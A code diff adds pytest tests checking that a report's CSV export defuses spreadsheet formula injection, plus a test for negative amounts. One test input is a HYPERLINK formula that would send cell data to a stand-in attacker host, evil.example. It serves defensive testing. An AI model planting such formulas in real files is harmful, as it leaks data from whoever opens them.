@@ -190,3 +190,26 @@ def test_summary_worst_case_still_fits() -> None:
     text = summary(report)
     assert len(text.splitlines()) <= 25
     assert "w pełnym raporcie" in text
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?"&A1;"kliknij") firewall', "+48 123 firewall", "-2+3 kabel", "@SUM(1+1)",
+     "\tTAB firewall", "\rCR firewall"],
+    ids=["equals", "plus", "minus", "at", "tab", "cr"],
+)
+def test_csv_cells_cannot_become_spreadsheet_formulas(name: str) -> None:
+    """OWASP CSV injection: officials open the export in Excel, which would evaluate these cells."""
+    report = _report(items=(line(name, "10.00", 1),), number="=1+1")
+    rows = list(csv.reader(io.StringIO(to_csv(report), newline=""), delimiter=";"))
+    item = rows[1]
+    assert item[4] == "'" + name and item[2] == "'=1+1"
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+
+
+def test_csv_keeps_negative_amounts_as_numbers() -> None:
+    report = _report(items=(line("FortiGate 60F korekta", "-500.00", 1),))
+    rows = list(csv.reader(io.StringIO(to_csv(report)), delimiter=";"))
+    assert rows[1][6] == "-500,00"
